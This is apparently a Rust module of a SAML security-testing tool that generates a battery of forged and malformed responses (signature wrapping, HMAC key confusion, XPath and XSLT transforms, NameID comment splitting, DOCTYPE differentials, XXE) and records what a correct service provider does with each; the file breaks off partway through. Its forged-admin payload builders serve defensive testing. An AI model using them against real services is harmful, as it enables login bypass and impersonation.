//! The battery: every response the test IdP posts to an SP, and what a correct SP does with it.
//!
//! The cases follow the catalogue in `saml-attacks.md` (groups A to H). Each is built from the
//! valid response by a small change; wrapping and duplication variants move or copy signed bytes
//! unchanged (never a re-serialized copy), so the signatures in them still verify and only the
//! SP's choice of element decides the outcome.

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE};
use time::{Duration, OffsetDateTime};

use super::canonical::{Canonical, SAML, SAMLP, XSI, escape_attr, escape_text};
use super::error::{Result, SamlError};
use super::keys::IdpKey;
use super::metadata::idp_metadata;
use super::response::{
    ATTRNAME_BASIC, ResponseSpec, assertion_xml, document, new_id, response_xml,
};
use super::sign::{
    self, DigestAlg, KeyInfo, SignOptions, SignatureAlg, insert_signature, signature_element,
    signed_info,
};
use super::splice::{self, Element};

/// Where external-entity, XInclude and similar cases point when no canary URL is given: the
/// discard port on loopback, so nothing leaves the machine even if the SP fetches.
pub const DEFAULT_CANARY: &str = "http://127.0.0.1:9/idgate-canary";

/// The catalogue's groups.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Group {
    /// Signature presence and coverage.
    A,
    /// Wrapping (XSW) and selection.
    B,
    /// Keys and algorithms.
    C,
    /// Parser differentials.
    D,
    /// XML parser attacks.
    E,
    /// Protocol checks.
    F,
    /// Replay and binding.
    G,
    /// Must accept.
    H,
}

impl Group {
    /// Every group, in order.
    pub const ALL: [Group; 8] = [
        Group::A,
        Group::B,
        Group::C,
        Group::D,
        Group::E,
        Group::F,
        Group::G,
        Group::H,
    ];

    /// The group's heading in the catalogue.
    pub fn title(self) -> &'static str {
        match self {
            Group::A => "Signature presence and coverage",
            Group::B => "Wrapping (XSW) and selection",
            Group::C => "Keys and algorithms",
            Group::D => "Parser differentials",
            Group::E => "XML parser attacks",
            Group::F => "Protocol checks",
            Group::G => "Replay and binding",
            Group::H => "Must accept",
        }
    }
}

/// What a correct SP does. With several posts, it is about the last one; the earlier posts are
/// valid and must be accepted.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Expect {
    /// A session for the original user.
    Accept,
    /// An error and no session.
    Reject,
    /// Reject, or a session for the original user only, never for `attacker_user`.
    AcceptOriginalOnly,
    /// Policy, not correctness (weak algorithms, unsolicited responses): what the SP did is
    /// reported, not failed.
    Report,
}

/// One case of the battery.
#[derive(Debug, Clone, Copy)]
pub struct Case {
    /// Stable id, also the check id (`saml.xsw3`).
    pub id: &'static str,
    /// Catalogue group.
    pub group: Group,
    /// A short name.
    pub title: &'static str,
    /// What differs from the valid response.
    pub changes: &'static str,
    /// What a correct SP does.
    pub expect: Expect,
    /// The CVE, advisory, tool or specification the case comes from.
    pub cite: &'static str,
    make: fn(&CaseContext<'_>) -> Result<BuiltCase>,
}

/// What the cases are built from.
#[derive(Debug, Clone)]
pub struct CaseContext<'a> {
    /// The valid response; every case starts from it.
    pub spec: ResponseSpec,
    /// The IdP key the SP trusts.
    pub idp: &'a IdpKey,
    /// An unrelated key.
    pub attacker: &'a IdpKey,
    /// A key whose certificate copies the IdP certificate's identity (`IdpKey::clone_of`).
    pub cloned: &'a IdpKey,
    /// The clock skew the SP allows; timing cases sit just inside and just outside it.
    pub skew: Duration,
    /// The time the timing cases are measured from.
    pub now: OffsetDateTime,
    /// Loopback URL for cases that invite a fetch; `None` means [`DEFAULT_CANARY`].
    pub canary_url: Option<String>,
    /// The identity forged payloads claim (the victim an attacker wants to be).
    pub forged_name_id: String,
}

impl<'a> CaseContext<'a> {
    /// A context with a three-minute skew, the default canary, `now` taken from the spec's
    /// IssueInstant and `admin@<domain of the NameID>` as the forged identity (or
    /// `administrator@...` when the NameID already is `admin@...`).
    pub fn new(
        spec: ResponseSpec,
        idp: &'a IdpKey,
        attacker: &'a IdpKey,
        cloned: &'a IdpKey,
    ) -> CaseContext<'a> {
        let domain = spec
            .name_id
            .rsplit_once('@')
            .map(|(_, d)| d)
            .unwrap_or("example.com");
        let mut forged_name_id = format!("admin@{domain}");
        if forged_name_id == spec.name_id {
            forged_name_id = format!("administrator@{domain}");
        }
        CaseContext {
            now: spec.issue_instant,
            forged_name_id,
            spec,
            idp,
            attacker,
            cloned,
            skew: Duration::minutes(3),
            canary_url: None,
        }
    }

    fn canary(&self, case: &str) -> String {
        let base = self.canary_url.as_deref().unwrap_or(DEFAULT_CANARY);
        format!("{}/{case}", base.trim_end_matches('/'))
    }

    /// How far inside or outside the skew the timing cases sit: a quarter of it, kept between
    /// 5 and 30 seconds so that the time a post takes does not move a case across the line.
    fn margin(&self) -> Duration {
        (self.skew / 4_i32).clamp(Duration::seconds(5), Duration::seconds(30))
    }

    fn forged(&self) -> ResponseSpec {
        self.spec.for_subject(&self.forged_name_id)
    }
}

/// A built case, ready to post.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BuiltCase {
    /// The document of the last post (the one the expectation is about).
    pub xml: String,
    /// `SAMLResponse` values to post, in order (replay cases post twice; binding cases vary the
    /// base64).
    pub posts: Vec<String>,
    /// A second `SAMLResponse` value sent in the same form as the first post, for the
    /// duplicate-parameter case.
    pub second_value: Option<String>,
    /// The identity the IdP vouched for; the only acceptable session user.
    pub original_user: String,
    /// The identity a forged part claims, when there is one.
    pub attacker_user: Option<String>,
}

/// Every case, grouped A to H.
pub fn all() -> &'static [Case] {
    CASES
}

/// The case with `id`.
pub fn find(id: &str) -> Option<&'static Case> {
    CASES.iter().find(|c| c.id == id)
}

/// Builds case `case_id` from `ctx`.
pub fn build(case_id: &str, ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let case = find(case_id).ok_or_else(|| SamlError::UnknownCase(case_id.into()))?;
    (case.make)(ctx)
}

// ---------------------------------------------------------------------------------------------
// Building blocks.

fn b64(xml: &str) -> String {
    STANDARD.encode(xml)
}

/// A case with one post of `root`.
fn post(ctx: &CaseContext<'_>, root: &str, forged: bool) -> BuiltCase {
    post_doc(ctx, document(root), forged)
}

fn post_doc(ctx: &CaseContext<'_>, xml: String, forged: bool) -> BuiltCase {
    BuiltCase {
        posts: vec![b64(&xml)],
        xml,
        second_value: None,
        original_user: ctx.spec.name_id.clone(),
        attacker_user: forged.then(|| ctx.forged_name_id.clone()),
    }
}

/// `prolog` (DOCTYPE, processing instructions) between the XML declaration and `root`.
fn with_prolog(prolog: &str, root: &str) -> String {
    document(&format!("{prolog}\n{root}"))
}

fn idp_opts<'a>(ctx: &CaseContext<'a>) -> SignOptions<'a> {
    SignOptions::new(ctx.idp)
}

/// Assertion and Response both signed with `opts`.
fn both_signed(spec: &ResponseSpec, opts: &SignOptions<'_>) -> Result<String> {
    both_signed_from(spec, &assertion_xml(spec), opts)
}

/// As [`both_signed`], from assertion bytes a case has edited before signing.
fn both_signed_from(
    spec: &ResponseSpec,
    assertion: &str,
    opts: &SignOptions<'_>,
) -> Result<String> {
    let signed = sign::sign_assertion(assertion, opts)?;
    sign::sign_response(&response_xml(spec, &signed), opts)
}

/// The signed assertion alone.
fn signed_assertion(ctx: &CaseContext<'_>) -> Result<String> {
    sign::sign_assertion(&assertion_xml(&ctx.spec), &idp_opts(ctx))
}

/// An unsigned copy of the assertion for the forged identity, with `id`.
fn forged_assertion(ctx: &CaseContext<'_>, id: &str) -> String {
    let mut spec = ctx.forged();
    spec.assertion_id = id.into();
    assertion_xml(&spec)
}

/// `xml` with the original identity replaced by the forged one wherever it is text (NameID and
/// the e-mail claims), as an attacker edits a captured message.
fn edit_subject(ctx: &CaseContext<'_>, xml: &str) -> Result<String> {
    splice::replace_all(
        xml,
        &escape_text(&ctx.spec.name_id),
        &escape_text(&ctx.forged_name_id),
    )
}

/// `fragment` with its root element's `ID` set to `id`.
fn with_root_id(fragment: &str, id: &str) -> Result<String> {
    let root = splice::root(fragment)?;
    splice::set_attr(fragment, &root, "ID", Some(&escape_attr(id)))
}

/// The Response's own signature (a child of the root).
fn response_signature(xml: &str) -> Result<Element> {
    let root = splice::root(xml)?;
    splice::child(xml, &root, "Signature")?
        .ok_or_else(|| SamlError::Splice("the response is not signed".into()))
}

/// The valid response with `content` in a `ds:Object` of the Response signature: neither
/// digest covers it (the enveloped transform drops that signature, and SignedInfo does not
/// reference the Object), so every signature still verifies.
fn valid_with_object(ctx: &CaseContext<'_>, content: &str) -> Result<String> {
    let xml = both_signed(&ctx.spec, &idp_opts(ctx))?;
    let sig = response_signature(&xml)?;
    Ok(splice::insert(
        &xml,
        sig.inner_end,
        &format!("<ds:Object>{content}</ds:Object>"),
    ))
}

// ---------------------------------------------------------------------------------------------
// A. Signature presence and coverage.

fn valid(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    Ok(post(ctx, &both_signed(&ctx.spec, &idp_opts(ctx))?, false))
}

fn response_signed_only(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let r = response_xml(&ctx.spec, &assertion_xml(&ctx.spec));
    Ok(post(ctx, &sign::sign_response(&r, &idp_opts(ctx))?, false))
}

fn assertion_signed_only(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    Ok(post(
        ctx,
        &response_xml(&ctx.spec, &signed_assertion(ctx)?),
        false,
    ))
}

fn unsigned(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let forged = ctx.forged();
    Ok(post(
        ctx,
        &response_xml(&forged, &assertion_xml(&forged)),
        true,
    ))
}

fn tampered(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let xml = both_signed(&ctx.spec, &idp_opts(ctx))?;
    Ok(post(ctx, &edit_subject(ctx, &xml)?, true))
}

/// The assertion carries a valid signature whose Reference names the Response (`uri`), not the
/// assertion it sits in.
fn reference_to_response(ctx: &CaseContext<'_>, uri: &str) -> Result<BuiltCase> {
    let r = response_xml(&ctx.spec, &assertion_xml(&ctx.spec));
    let sig = signature_element(&r, uri, &idp_opts(ctx))?;
    let assertion = splice::first(&r, "saml:Assertion")?;
    Ok(post(ctx, &insert_signature(&r, &assertion, &sig)?, false))
}

fn reference_elsewhere(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    reference_to_response(ctx, &format!("#{}", ctx.spec.response_id))
}

fn reference_empty(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    reference_to_response(ctx, "")
}

fn signature_misplaced(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let xml = response_xml(&ctx.spec, &signed_assertion(ctx)?);
    let sig = splice::first(&xml, "ds:Signature")?;
    let moved = splice::slice(&xml, &sig).to_string();
    let xml = splice::remove(&xml, &sig);
    Ok(post(
        ctx,
        &splice::insert_after(&xml, "saml:Issuer", &moved)?,
        false,
    ))
}

fn foreign_signed_document(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let md_id = new_id();
    let sso = format!("{}/sso", ctx.spec.issuer.trim_end_matches('/'));
    let md = idp_metadata(&ctx.spec.issuer, &sso, ctx.idp, &md_id);
    let md = sign::sign_element(&md, &md_id, &idp_opts(ctx))?;
    let forged = ctx.forged();
    let xml = response_xml(&forged, &assertion_xml(&forged));
    let xml = splice::insert_after(
        &xml,
        "saml:Issuer",
        &format!("<samlp:Extensions>{md}</samlp:Extensions>"),
    )?;
    Ok(post(ctx, &xml, true))
}

fn assertion_signed_with(
    ctx: &CaseContext<'_>,
    edit: fn(&str) -> Result<String>,
) -> Result<BuiltCase> {
    let xml = response_xml(&ctx.spec, &signed_assertion(ctx)?);
    Ok(post(ctx, &edit(&xml)?, false))
}

fn broken_signature_value(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    assertion_signed_with(ctx, |xml| {
        let v = splice::first(xml, "ds:SignatureValue")?;
        let at = v.inner_start + 10;
        let flipped = if &xml[at..at + 1] == "A" { "B" } else { "A" };
        Ok(splice::replace(xml, at, at + 1, flipped))
    })
}

fn broken_empty_signature_value(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    assertion_signed_with(ctx, |xml| splice::set_inner(xml, "ds:SignatureValue", ""))
}

fn broken_no_signedinfo(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    assertion_signed_with(ctx, |xml| splice::remove_first(xml, "ds:SignedInfo"))
}

fn broken_empty_keyinfo(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let mut opts = idp_opts(ctx);
    opts.key_info = KeyInfo::Raw(String::new());
    let a = sign::sign_assertion(&assertion_xml(&ctx.spec), &opts)?;
    Ok(post(ctx, &response_xml(&ctx.spec, &a), false))
}

// ---------------------------------------------------------------------------------------------
// B. Wrapping and selection.

/// XSW1 and XSW2: the signed Response edited and renamed; a clean copy of the original (the
/// exact bytes that were digested) goes inside the signature or just before it.
fn xsw_response(ctx: &CaseContext<'_>, inside_signature: bool) -> Result<BuiltCase> {
    let original = response_xml(&ctx.spec, &assertion_xml(&ctx.spec));
    let signed = sign::sign_response(&original, &idp_opts(ctx))?;
    let evil = with_root_id(&edit_subject(ctx, &signed)?, &new_id())?;
    // The edited assertion gets a new ID too, so the only duplicate-free reading of the document
    // is the wrapping itself (duplicate IDs have cases of their own).
    let assertion = splice::first(&evil, "saml:Assertion")?;
    let evil = splice::set_attr(&evil, &assertion, "ID", Some(&new_id()))?;
    let sig = response_signature(&evil)?;
    let at = if inside_signature {
        sig.inner_end
    } else {
        sig.start
    };
    Ok(post(ctx, &splice::insert(&evil, at, &original), true))
}

fn xsw1(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    xsw_response(ctx, true)
}

fn xsw2(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    xsw_response(ctx, false)
}

fn xsw3(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let evil = forged_assertion(ctx, &new_id());
    let body = format!("{evil}{}", signed_assertion(ctx)?);
    Ok(post(ctx, &response_xml(&ctx.spec, &body), true))
}

fn xsw4(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let evil = forged_assertion(ctx, &new_id());
    let evil = splice::append_into(&evil, "saml:Assertion", &signed_assertion(ctx)?)?;
    Ok(post(ctx, &response_xml(&ctx.spec, &evil), true))
}

/// The signed assertion edited in place (signature kept), renamed when `rename`.
fn edited_signed_assertion(ctx: &CaseContext<'_>, rename: bool) -> Result<String> {
    let evil = edit_subject(ctx, &signed_assertion(ctx)?)?;
    if rename {
        with_root_id(&evil, &new_id())
    } else {
        Ok(evil)
    }
}

fn xsw5(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let evil = edited_signed_assertion(ctx, true)?;
    let body = format!("{evil}{}", assertion_xml(&ctx.spec));
    Ok(post(ctx, &response_xml(&ctx.spec, &body), true))
}

fn xsw6(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let evil = edited_signed_assertion(ctx, true)?;
    let evil = splice::append_into(&evil, "ds:Signature", &assertion_xml(&ctx.spec))?;
    Ok(post(ctx, &response_xml(&ctx.spec, &evil), true))
}

fn xsw7(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let copy = forged_assertion(ctx, &ctx.spec.assertion_id);
    let body = format!("<Extensions>{copy}</Extensions>{}", signed_assertion(ctx)?);
    Ok(post(ctx, &response_xml(&ctx.spec, &body), true))
}

fn xsw7_ns(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let copy = forged_assertion(ctx, &ctx.spec.assertion_id);
    let xml = response_xml(&ctx.spec, &signed_assertion(ctx)?);
    // Where the schema allows Extensions: after the Issuer, before the Status.
    let xml = splice::insert_after(
        &xml,
        "saml:Issuer",
        &format!("<samlp:Extensions>{copy}</samlp:Extensions>"),
    )?;
    Ok(post(ctx, &xml, true))
}

fn xsw8_with(ctx: &CaseContext<'_>, object: &str) -> Result<BuiltCase> {
    let evil = edited_signed_assertion(ctx, false)?;
    let clean = assertion_xml(&ctx.spec);
    let evil = splice::append_into(
        &evil,
        "ds:Signature",
        &format!("<{object}>{clean}</{object}>"),
    )?;
    Ok(post(ctx, &response_xml(&ctx.spec, &evil), true))
}

fn xsw8(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    xsw8_with(ctx, "Object")
}

fn xsw8_ns(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    xsw8_with(ctx, "ds:Object")
}

fn multiple_assertions_forged_first(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let forged = forged_assertion(ctx, &new_id());
    let forged = sign::sign_assertion(&forged, &SignOptions::new(ctx.attacker))?;
    let body = format!("{forged}{}", signed_assertion(ctx)?);
    Ok(post(ctx, &response_xml(&ctx.spec, &body), true))
}

fn multiple_assertions_forged_last(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let body = format!(
        "{}{}",
        signed_assertion(ctx)?,
        forged_assertion(ctx, &new_id())
    );
    Ok(post(ctx, &response_xml(&ctx.spec, &body), true))
}

fn duplicate_ids(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let body = format!(
        "{}{}",
        signed_assertion(ctx)?,
        forged_assertion(ctx, &ctx.spec.assertion_id)
    );
    Ok(post(ctx, &response_xml(&ctx.spec, &body), true))
}

fn id_decoy(ctx: &CaseContext<'_>, attr: &str) -> Result<BuiltCase> {
    let decoy = forged_assertion(ctx, &new_id());
    let root = splice::root(&decoy)?;
    let decoy = splice::insert(
        &decoy,
        root.inner_start - 1,
        &format!(" {attr}=\"{}\"", escape_attr(&ctx.spec.assertion_id)),
    );
    let body = format!("{decoy}{}", signed_assertion(ctx)?);
    Ok(post(ctx, &response_xml(&ctx.spec, &body), true))
}

fn id_decoy_lowercase(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    id_decoy(ctx, "id")
}

fn id_decoy_mixedcase(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    id_decoy(ctx, "Id")
}

fn assertion_in_advice(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let evil = forged_assertion(ctx, &new_id());
    let advice = format!("<saml:Advice>{}</saml:Advice>", signed_assertion(ctx)?);
    let evil = splice::insert_after(&evil, "saml:Conditions", &advice)?;
    Ok(post(ctx, &response_xml(&ctx.spec, &evil), true))
}

fn two_root_elements(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let mut forged = ctx.forged();
    forged.response_id = new_id();
    forged.assertion_id = new_id();
    let first = response_xml(&forged, &assertion_xml(&forged));
    let second = both_signed(&ctx.spec, &idp_opts(ctx))?;
    Ok(post(ctx, &format!("{first}{second}"), true))
}

fn extra_signedinfo(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let opts = idp_opts(ctx);
    let original = assertion_xml(&ctx.spec);
    let genuine = sign::sign_assertion(&original, &opts)?;
    let genuine_sig =
        splice::slice(&genuine, &splice::first(&genuine, "ds:Signature")?).to_string();
    // The consumed assertion is forged; a second SignedInfo (never signed) carries its digest.
    let forged_id = new_id();
    let forged = forged_assertion(ctx, &forged_id);
    let digest = opts.digest.digest_base64(forged.as_bytes())?;
    let second = signed_info(&format!("#{forged_id}"), &digest, &opts).in_signature;
    let sig = splice::insert_after(&genuine_sig, "ds:SignedInfo", &second)?;
    let forged = insert_signature(&forged, &splice::root(&forged)?, &sig)?;
    // The genuine SignedInfo's Reference still finds the original, tucked away at the end.
    let body = format!("{forged}<Wrapper>{original}</Wrapper>");
    Ok(post(ctx, &response_xml(&ctx.spec, &body), true))
}

fn comment_in_digestvalue(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let opts = idp_opts(ctx);
    let forged = edit_subject(ctx, &assertion_xml(&ctx.spec))?;
    let forged_digest = opts.digest.digest_base64(forged.as_bytes())?;
    let evil = edited_signed_assertion(ctx, false)?;
    let dv = splice::first(&evil, "ds:DigestValue")?;
    let evil = splice::insert(&evil, dv.inner_start, &format!("<!--{forged_digest}-->"));
    Ok(post(ctx, &response_xml(&ctx.spec, &evil), true))
}

fn encrypted_assertion_plain(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let forged = forged_assertion(ctx, &new_id());
    // The wrapper declares its own prefix: the Response's root does not bind `saml`, and a
    // document that is not well-formed would be refused before any SP logic is tested.
    let body = format!(
        "<saml:EncryptedAssertion xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\">{forged}</saml:EncryptedAssertion>"
    );
    Ok(post(ctx, &response_xml(&ctx.spec, &body), true))
}

// ---------------------------------------------------------------------------------------------
// C. Keys and algorithms.

fn forged_signed_with(ctx: &CaseContext<'_>, opts: &SignOptions<'_>) -> Result<BuiltCase> {
    Ok(post(ctx, &both_signed(&ctx.forged(), opts)?, true))
}

fn valid_signed_with(ctx: &CaseContext<'_>, opts: &SignOptions<'_>) -> Result<BuiltCase> {
    Ok(post(ctx, &both_signed(&ctx.spec, opts)?, false))
}

fn attacker_key(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    forged_signed_with(ctx, &SignOptions::new(ctx.attacker))
}

fn cloned_cert(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    forged_signed_with(ctx, &SignOptions::new(ctx.cloned))
}

/// HMAC keyed with the IdP certificate's PEM text, which anyone can read from the metadata.
fn hmac_opts<'a>(ctx: &CaseContext<'a>, method: SignatureAlg) -> SignOptions<'a> {
    let mut opts = idp_opts(ctx).algorithms(method, DigestAlg::Sha256);
    opts.hmac_key = ctx.idp.cert_pem().into_bytes();
    opts.key_info = KeyInfo::Cert(ctx.idp);
    opts
}

fn hmac_with_idp_cert(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    forged_signed_with(ctx, &hmac_opts(ctx, SignatureAlg::HmacSha256))
}

fn hmac_truncated(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let mut opts = hmac_opts(ctx, SignatureAlg::HmacSha1);
    opts.hmac_output_bits = Some(8);
    forged_signed_with(ctx, &opts)
}

fn alg_rsa_sha1(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    valid_signed_with(
        ctx,
        &idp_opts(ctx).algorithms(SignatureAlg::RsaSha1, DigestAlg::Sha256),
    )
}

fn digest_sha1(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    valid_signed_with(
        ctx,
        &idp_opts(ctx).algorithms(SignatureAlg::RsaSha256, DigestAlg::Sha1),
    )
}

fn digest_md5(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    valid_signed_with(
        ctx,
        &idp_opts(ctx).algorithms(SignatureAlg::RsaSha256, DigestAlg::Md5),
    )
}

fn alg_unknown_uri(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let mut opts = idp_opts(ctx);
    opts.method_uri = Some("urn:idgate:unknown-signature-method".into());
    valid_signed_with(ctx, &opts)
}

fn alg_mismatch(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let mut opts = idp_opts(ctx);
    opts.method_uri = Some(SignatureAlg::RsaSha512.uri().into());
    valid_signed_with(ctx, &opts)
}

fn transform_xslt(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let url = ctx.canary("transform-xslt");
    let mut w = Canonical::inside(&[("ds", super::canonical::DSIG)]);
    w.start(
        "ds:Transform",
        &[("Algorithm", "http://www.w3.org/TR/1999/REC-xslt-19991116")],
    );
    w.start("xsl:stylesheet", &[("version", "1.0")]);
    w.start("xsl:template", &[("match", "/")]);
    w.leaf(
        "xsl:copy-of",
        &[("select", &format!("document('{url}')"))],
        "",
    );
    w.end();
    w.end();
    w.end();
    let mut opts = idp_opts(ctx);
    opts.extra_transform = Some(w.finish());
    valid_signed_with(ctx, &opts)
}

fn transform_xpath(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let mut opts = idp_opts(ctx);
    opts.extra_transform = Some(
        "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\"><ds:XPath>\
         not(ancestor-or-self::*[local-name()='NameID'])</ds:XPath></ds:Transform>"
            .into(),
    );
    // What that XPath filter leaves to digest: the assertion without its NameID.
    let original = assertion_xml(&ctx.spec);
    let covered = splice::remove_first(&original, "saml:NameID")?;
    let uri = format!("#{}", ctx.spec.assertion_id);
    let sig = signature_element(&covered, &uri, &opts)?;
    let signed = insert_signature(&original, &splice::root(&original)?, &sig)?;
    let forged = splice::set_inner(&signed, "saml:NameID", &escape_text(&ctx.forged_name_id))?;
    Ok(post(ctx, &response_xml(&ctx.spec, &forged), true))
}

fn retrieval_method(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let mut opts = SignOptions::new(ctx.attacker);
    opts.key_info = KeyInfo::Raw(format!(
        "<ds:RetrievalMethod Type=\"http://www.w3.org/2000/09/xmldsig#X509Data\" URI=\"{}\">\
         </ds:RetrievalMethod>",
        escape_attr(&ctx.canary("retrieval-method"))
    ));
    forged_signed_with(ctx, &opts)
}

fn idp_cert_reissued(ctx: &CaseContext<'_>, from: Duration, to: Duration) -> Result<BuiltCase> {
    let reissued = ctx.idp.reissue(ctx.now + from, ctx.now + to)?;
    valid_signed_with(ctx, &SignOptions::new(&reissued))
}

fn idp_cert_expired(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    idp_cert_reissued(ctx, Duration::days(-730), Duration::days(-365))
}

fn idp_cert_not_yet_valid(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    idp_cert_reissued(ctx, Duration::days(365), Duration::days(730))
}

// ---------------------------------------------------------------------------------------------
// D. Parser differentials.

/// The IdP vouches for `<victim>.evil.test` (an account the attacker registered); `inner` is
/// how the NameID text is written, splitting it after the victim's address.
fn split_nameid(ctx: &CaseContext<'_>, inner: &str, before_signing: bool) -> Result<BuiltCase> {
    let whole = format!("{}.evil.test", ctx.forged_name_id);
    let spec = ctx.spec.for_subject(&whole);
    let opts = idp_opts(ctx);
    let xml = if before_signing {
        let a = splice::set_inner(&assertion_xml(&spec), "saml:NameID", inner)?;
        both_signed_from(&spec, &a, &opts)?
    } else {
        splice::set_inner(&both_signed(&spec, &opts)?, "saml:NameID", inner)?
    };
    Ok(BuiltCase {
        original_user: whole,
        ..post(ctx, &xml, true)
    })
}

fn comment_in_nameid(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let victim = escape_text(&ctx.forged_name_id);
    // Canonical form drops comments, so the signatures still cover the whole address.
    split_nameid(ctx, &format!("{victim}<!---->.evil.test"), false)
}

fn pi_in_nameid(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let victim = escape_text(&ctx.forged_name_id);
    // Canonical form keeps processing instructions, so this one is in the signed bytes.
    split_nameid(ctx, &format!("{victim}<?idgate?>.evil.test"), true)
}

fn cdata_in_nameid(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let victim = escape_text(&ctx.forged_name_id);
    split_nameid(ctx, &format!("{victim}<![CDATA[.evil.test]]>"), false)
}

fn charref_in_nameid(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let victim = escape_text(&ctx.forged_name_id);
    split_nameid(ctx, &format!("{victim}&#46;evil.test"), false)
}

fn doctype(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let xml = both_signed(&ctx.spec, &idp_opts(ctx))?;
    Ok(post_doc(
        ctx,
        with_prolog("<!DOCTYPE samlp:Response>", &xml),
        false,
    ))
}

fn doctype_differential(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let forged = ctx.forged();
    let fake = response_xml(&forged, &assertion_xml(&forged))
        .replace('%', "&#37;")
        .replace('\'', "&#39;");
    // An entity value holding `]>` and a whole forged Response: a parser that ends the DOCTYPE
    // at the first `]>` reads the forged Response as the document.
    let prolog = format!("<!DOCTYPE samlp:Response [<!ENTITY idgate ']>{fake}'>]>");
    let xml = both_signed(&ctx.spec, &idp_opts(ctx))?;
    Ok(post_doc(ctx, with_prolog(&prolog, &xml), true))
}

fn signature_wrong_namespace(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let evil = edited_signed_assertion(ctx, false)?;
    let evil = splice::replace_first(
        &evil,
        "xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"",
        "xmlns:ds=\"http://www.w3.org/2000/09/xmldsig\"",
    )?;
    Ok(post(ctx, &response_xml(&ctx.spec, &evil), true))
}

fn reference_xpath_injection(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let id = &ctx.spec.assertion_id;
    let original = assertion_xml(&ctx.spec);
    // Pasted into `//*[@ID='...']` this still selects the assertion; as an ID it names nothing.
    let uri = format!("#{id}' or @ID='{id}");
    let sig = signature_element(&original, &uri, &idp_opts(ctx))?;
    let signed = insert_signature(&original, &splice::root(&original)?, &sig)?;
    Ok(post(ctx, &response_xml(&ctx.spec, &signed), false))
}

// ---------------------------------------------------------------------------------------------
// E. XML parser attacks.

fn xxe_external_entity(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let url = ctx.canary("xxe-external-entity");
    let prolog = format!("<!DOCTYPE samlp:Response [<!ENTITY idgate SYSTEM \"{url}\">]>");
    let xml = valid_with_object(ctx, "&idgate;")?;
    Ok(post_doc(ctx, with_prolog(&prolog, &xml), false))
}

fn xxe_external_dtd(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let url = ctx.canary("xxe-external-dtd");
    let prolog = format!("<!DOCTYPE samlp:Response SYSTEM \"{url}\">");
    let xml = both_signed(&ctx.spec, &idp_opts(ctx))?;
    Ok(post_doc(ctx, with_prolog(&prolog, &xml), false))
}

fn xxe_parameter_entity(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let url = ctx.canary("xxe-parameter-entity");
    let prolog =
        format!("<!DOCTYPE samlp:Response [<!ENTITY % idgate SYSTEM \"{url}\"> %idgate;]>");
    let xml = both_signed(&ctx.spec, &idp_opts(ctx))?;
    Ok(post_doc(ctx, with_prolog(&prolog, &xml), false))
}

fn billion_laughs(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    // Four levels of ten: 10^4 copies of "lol", 30 kB if expanded. Enough to see expansion,
    // small enough to harm nothing.
